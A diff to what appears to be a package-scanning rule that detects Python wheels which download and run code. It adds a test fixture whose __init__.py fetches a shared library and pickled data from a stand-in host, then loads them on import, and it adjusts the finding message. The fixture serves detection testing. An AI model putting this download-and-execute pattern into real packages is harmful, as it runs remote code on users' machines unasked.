@@ -48,6 +48,14 @@ export default rule({
       },
     },
     {
+      wheel: {
+        files: {
+          'demo/__init__.py':
+            'import ctypes\nimport pickle\nfrom urllib.request import urlopen, urlretrieve\n\nurlretrieve("https://demo.invalid/x", "/tmp/x.so")\nctypes.CDLL("/tmp/x.so")\npickle.loads(urlopen("https://demo.invalid/y").read())\n',
+        },
+      },
+    },
+    {
       baseline: [{ wheel: { version: '0.9' } }],
       release: [
         {
@@ -128,7 +136,7 @@ const deedsOf = oncePer((subject: Wheel | Sdist): Draft | undefined => {
     const what =
       start.line === download.line
         ? `downloads something and starts it (${quote(start.call)})`
-        : `downloads something (${quote(download.call)}) and starts a program (${quote(start.call)} on line ${start.line})`
+        : `downloads something (${quote(download.call)}) and ${/^(?:subprocess|os)\./.test(start.call) ? 'starts a program' : 'runs code'} (${quote(start.call)} on line ${start.line})`
     return finding({ member, line: download.line, column: download.column }, `${quote(member)} ${what} ${when}.`)
   }
   return undefined
